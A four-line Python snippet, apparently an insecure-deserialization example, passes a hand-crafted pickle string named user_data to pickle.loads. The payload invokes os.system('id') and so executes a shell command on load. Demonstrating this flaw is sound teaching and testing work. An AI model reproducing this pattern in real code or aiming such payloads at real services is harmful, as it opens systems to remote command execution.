import pickle

user_data = "cos\nsystem\n(S'id'\ntR."
obj = pickle.loads(user_data)
